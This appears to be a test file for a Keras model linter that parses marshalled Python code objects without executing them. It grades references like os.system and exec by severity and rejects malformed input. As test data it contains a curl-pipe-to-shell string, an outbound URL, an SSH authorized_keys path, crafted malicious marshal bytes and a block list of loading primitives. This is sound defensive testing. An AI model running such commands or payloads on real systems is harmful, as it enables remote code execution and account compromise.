"""The bounded marshal reader and the name/reference judgements behind the Keras rules.

Code objects are ``marshal.dumps``-ed from this interpreter (dumping is harmless; the
linter never loads) and read back by :mod:`tfmodel_lint.loaders.marshal_reader`.
"""

from __future__ import annotations

import ast
import marshal
import math
import random
import struct
import sys
import types
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tfmodel_lint.analysis.keras_code import CUSTOM, GADGET, OK, assess_code, classify_reference
from tfmodel_lint.findings import Severity
from tfmodel_lint.loaders import marshal_reader as mr

SRC = Path(__file__).resolve().parent.parent / "src" / "tfmodel_lint"
TEMPLATE = (lambda x: x).__code__


def _all_codes(code: types.CodeType) -> Iterator[types.CodeType]:
    yield code
    for const in code.co_consts:
        if isinstance(const, types.CodeType):
            yield from _all_codes(const)


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, (tuple, frozenset)):
        for item in value:
            yield from _strings(item)


def _sample_function(path):  # type: ignore[no-untyped-def]
    import os

    def inner(y):  # type: ignore[no-untyped-def]
        return [os.path.join(path, str(i)) for i in range(y)] + [{"k": b"bytes"}, 10**40, -(2**70), 1.5, 2j]

    with open(path, "w") as fh:  # dumped, never called
        fh.write("payload")
    return inner, lambda z: z + 1, ..., frozenset({"fs"}), ("nested", ("deep",))


# -- real code objects of this interpreter ----------------------------------------------------


@pytest.mark.parametrize("version", range(marshal.version + 1))
@pytest.mark.parametrize("fn", [_sample_function, (lambda t: t * 2), mr.read_code, mr._Reader._obj])
def test_names_strings_and_nesting_match_the_real_code_object(fn: types.FunctionType, version: int) -> None:
    code = fn.__code__
    summary = mr.read_code(marshal.dumps(code, version))
    codes = list(_all_codes(code))
    assert summary.code_objects == len(codes)
    assert set(summary.names) == {n for c in codes for n in c.co_names}
    assert set(summary.strings) == {s for c in codes for k in c.co_consts for s in _strings(k)}
    assert set(summary.varnames) == {n for c in codes for n in c.co_varnames}
    assert set(summary.code_names) == {c.co_qualname for c in codes}
    assert summary.trailing_bytes == 0


def test_python_version_signature_of_this_interpreter() -> None:
    summary = mr.read_code(marshal.dumps(_sample_function.__code__))
    expected = {(3, 11): "3.11-3.12", (3, 12): "3.11-3.12", (3, 13): "3.13"}.get(sys.version_info[:2], "3.1")
    assert summary.python.startswith(expected)
    assert summary.layout == mr.LAYOUT_311


def test_parsed_constants_round_trip() -> None:
    code = TEMPLATE.replace(co_consts=(None, True, False, 7, -(2**100), 1.25, 3 - 4j, "s", b"b", ..., (1, ("x",)),
                                       frozenset({5})))
    parsed, layout, trailing = mr.parse_code(marshal.dumps(code))
    assert layout == mr.LAYOUT_311 and trailing == 0
    assert parsed.consts[:10] == (None, True, False, 7, -(2**100), 1.25, 3 - 4j, "s", b"b", mr.Special("Ellipsis"))
    assert parsed.consts[10] == (1, ("x",))
    assert parsed.consts[11] == mr.MarshalSet((5,), True)


_consts = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=50)
    | st.binary(max_size=50) | st.complex_numbers(allow_nan=False),
    lambda children: st.tuples(children, children) | st.lists(children, max_size=4).map(tuple)
    | st.frozensets(st.text(max_size=10) | st.integers(), max_size=4),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None)
@given(st.lists(_consts, max_size=6), st.lists(st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,12}", fullmatch=True),
                                                max_size=6))
def test_hypothesis_constants_and_names(consts: list[object], names: list[str]) -> None:
    code = TEMPLATE.replace(co_consts=tuple(consts), co_names=tuple(names))
    for version in (2, marshal.version):
        summary = mr.read_code(marshal.dumps(code, version))
        assert set(summary.names) == set(names)
        assert set(summary.strings) == {s for k in consts for s in _strings(k)}
        assert set(summary.bytes_constants) == {b for k in consts for b in _bytes(k)}


def _bytes(value: object) -> Iterator[bytes]:
    if isinstance(value, bytes):
        yield value
    elif isinstance(value, (tuple, frozenset)):
        for item in value:
            yield from _bytes(item)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_random_bytes_never_crash(data: bytes) -> None:
    for blob in (data, b"\xe3" + data, marshal.dumps(TEMPLATE)[:20] + data):
        try:
            mr.read_code(blob)
        except mr.MarshalError:
            pass


def test_every_truncation_is_a_marshal_error() -> None:
    data = marshal.dumps(_sample_function.__code__)
    for n in range(len(data)):
        with pytest.raises(mr.MarshalError):
            mr.read_code(data[:n])


def test_trailing_bytes_are_counted_not_fatal() -> None:
    summary = mr.read_code(marshal.dumps(TEMPLATE) + b"hidden")
    assert summary.trailing_bytes == len(b"hidden")


# -- crafted hostile data ---------------------------------------------------------------------


def _with_const(raw: bytes) -> bytes:
    data = marshal.dumps(TEMPLATE.replace(co_consts=("QQQ_CONST_QQQ",)))
    start = data.index(b"QQQ_CONST_QQQ") - 2
    return data[:start] + bytes([raw[0] | (data[start] & 0x80)]) + raw[1:] + data[start + 15:]


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b"(\x01\x00\x00\x00" * 50_000 + b"N", "nested deeper"),
        (b"[\x01\x00\x00\x00" * 70 + b"N", "nested deeper"),
        (b"(\xff\xff\xff\x7f", "exceeds the"),
        (b"(\xff\xff\xff\xff", "negative"),
        (b"s\xff\xff\xff\x7f", "exceeds the"),
        (b"l\xff\xff\xff\x7f", "digits exceeds"),
        (b"r\x00\x00\x01\x00", "invalid reference"),
        (b"?", "unknown type code"),
        (b"0", "NULL"),
        (b"u\x02\x00\x00\x00\xff\xfe", "not UTF-8"),
        (b"f\x03abc", "bad float"),
    ],
)
def test_hostile_constants_fail_cleanly(raw: bytes, words: str) -> None:
    with pytest.raises(mr.MarshalError, match=words):
        mr.read_code(_with_const(raw))


def test_object_count_and_size_bounds() -> None:
    many = _with_const(b"(\x00\x00\x01\x00" + b"N" * 65536)
    with pytest.raises(mr.MarshalError, match="more than 1000 objects"):
        mr.read_code(many, max_objects=1000)
    assert mr.read_code(many).code_objects == 1
    with pytest.raises(mr.MarshalError, match="exceed the limit"):
        mr.read_code(marshal.dumps(TEMPLATE), max_bytes=10)


def test_reference_to_a_code_object_being_read_is_rejected() -> None:
    data = bytearray(marshal.dumps(TEMPLATE))
    assert data[0] == 0xE3  # 'c' | FLAG_REF: slot 0 is the code object itself
    with pytest.raises(mr.MarshalError):
        mr.read_code(_with_const(b"r\x00\x00\x00\x00"))


def test_not_a_code_object() -> None:
    with pytest.raises(mr.MarshalError, match="not a marshalled code object"):
        mr.read_code(marshal.dumps(("tuple",)))
    with pytest.raises(mr.MarshalError, match="empty"):
        mr.read_code(b"")


# -- older layouts, written by hand ------------------------------------------------------------


def _w_str(text: str) -> bytes:
    raw = text.encode()
    return b"z" + bytes([len(raw)]) + raw


def _w_tuple(items: list[bytes]) -> bytes:
    return b")" + bytes([len(items)]) + b"".join(items)


def _legacy_code(posonly: bool, names: list[str], consts: list[bytes]) -> bytes:
    ints = [1, 0, 0, 1, 2, 67] if posonly else [1, 0, 1, 2, 67]
    out = b"c" + b"".join(struct.pack("<i", i) for i in ints)
    out += b"s" + struct.pack("<i", 4) + b"d\x01S\x00"  # co_code
    out += _w_tuple(consts) + _w_tuple([_w_str(n) for n in names])
    out += _w_tuple([_w_str("x")]) + _w_tuple([]) + _w_tuple([])  # varnames, freevars, cellvars
    out += _w_str("<payload>") + _w_str("<lambda>") + struct.pack("<i", 1)
    out += b"s" + struct.pack("<i", 0)  # lnotab
    return out


@pytest.mark.parametrize(("posonly", "layout"), [(True, mr.LAYOUT_38), (False, mr.LAYOUT_30)])
def test_python_38_and_37_layouts(posonly: bool, layout: str) -> None:
    inner = _legacy_code(posonly, ["system"], [b"N"])
    data = _legacy_code(posonly, ["__import__"], [b"N", _w_str("touch /tmp/x"), inner])
    summary = mr.read_code(data)
    assert summary.layout == layout and summary.python == layout
    assert set(summary.names) == {"__import__", "system"}
    assert summary.strings == ("touch /tmp/x",)
    assert summary.code_objects == 2


# -- judgements on names and references ---------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "strings", "severity"),
    [
        ((), (), Severity.MEDIUM),
        (("tf", "reduce_sum", "cast", "expand_dims", "K", "io"), ("channels_last",), Severity.MEDIUM),
        (("system",), ("os",), Severity.CRITICAL),
        (("__import__",), ("subprocess",), Severity.CRITICAL),
        (("exec",), (), Severity.CRITICAL),
        (("getattr", "__builtins__"), ("ex" "ec",), Severity.CRITICAL),
        (("urlopen",), ("http://203.0.113.5/x",), Severity.HIGH),
        (("open", "write"), (), Severity.HIGH),
        (("CDLL",), ("libc.so.6",), Severity.HIGH),
        (("loads",), ("pickle",), Severity.HIGH),
        ((), ("curl http://x.example/a | sh",), Severity.HIGH),
        ((), ("10.1.2.3",), Severity.HIGH),
        ((), ("~/.ssh/authorized_keys",), Severity.HIGH),
        (("environ",), (), Severity.HIGH),
    ],
)
def test_assess_code(names: tuple[str, ...], strings: tuple[str, ...], severity: Severity) -> None:
    assert assess_code(names, strings).severity == severity


@pytest.mark.parametrize(
    ("module", "name", "kind", "registered", "verdict", "severity"),
    [
        ("keras.layers", "Dense", "class", None, OK, Severity.INFO),
        ("keras.src.models.functional", "Functional", "class", "Functional", OK, Severity.INFO),
        ("keras_hub.models", "Backbone", "class", None, OK, Severity.INFO),
        (None, "Custom>Adam", "class", None, OK, Severity.INFO),
        (None, "Dense", "class", None, OK, Severity.INFO),
        ("keras.utils", "get_file", "function", None, GADGET, Severity.HIGH),
        ("os", "system", "class", None, GADGET, Severity.CRITICAL),
        ("subprocess", "Popen", "class", None, GADGET, Severity.CRITICAL),
        ("builtins", "exec", "function", "function", GADGET, Severity.CRITICAL),
        ("builtins", "len", "function", "function", GADGET, Severity.HIGH),
        ("builtins", "my_loss", "function", "function", CUSTOM, Severity.LOW),
        ("math", "sqrt", "function", None, GADGET, Severity.HIGH),
        ("numpy", "load", "function", None, GADGET, Severity.HIGH),
        ("custom_pkg.layers", "Scale", "class", "custom_pkg>Scale", CUSTOM, Severity.LOW),
        (None, "custom_pkg>Scale", "class", None, CUSTOM, Severity.LOW),
        ("__main__", "MyLayer", "class", "Custom>MyLayer", CUSTOM, Severity.LOW),
        ("my_pkg.fns", "system", "function", None, GADGET, Severity.HIGH),
    ],
)
def test_classify_reference(module: str | None, name: str, kind: str, registered: str | None, verdict: str,
                            severity: Severity) -> None:
    got = classify_reference(module, name, kind, registered)
    assert (got.verdict, got.severity) == (verdict, severity), got


# -- the linter itself never loads, unpickles, evaluates or imports Keras -------------------------

MINE = [
    "loaders/marshal_reader.py", "analysis/keras_code.py", "loaders/keras_config.py", "loaders/keras_h5.py",
    "loaders/keras_v3.py", "loaders/keras_savedmodel.py", "rules/keras.py",
]


@pytest.mark.parametrize("rel", MINE)
def test_no_loading_primitives_in_the_keras_modules(rel: str) -> None:
    tree = ast.parse((SRC / rel).read_text(encoding="utf-8"))
    banned_modules = {"marshal", "pickle", "keras", "tensorflow", "tf_keras", "dill", "cloudpickle"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            assert not {a.name.split(".")[0] for a in node.names} & banned_modules, (rel, ast.dump(node))
        elif isinstance(node, ast.ImportFrom):
            assert (node.module or "").split(".")[0] not in banned_modules, (rel, ast.dump(node))
        elif isinstance(node, ast.Call):
            func = node.func
            name = func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""
            assert name not in {"eval", "exec", "loads", "__import__"} or (
                name == "loads" and isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "json"
            ), (rel, ast.dump(node))


def test_random_marshal_like_blobs_are_bounded_in_time() -> None:
    rng = random.Random(3)
    base = marshal.dumps(_sample_function.__code__)
    for _ in range(300):
        blob = bytearray(base)
        for _ in range(rng.randint(1, 8)):
            blob[rng.randrange(len(blob))] = rng.randrange(256)
        try:
            summary = mr.read_code(bytes(blob))
        except mr.MarshalError:
            continue
        assert summary.code_objects >= 1 and not math.isnan(summary.size)
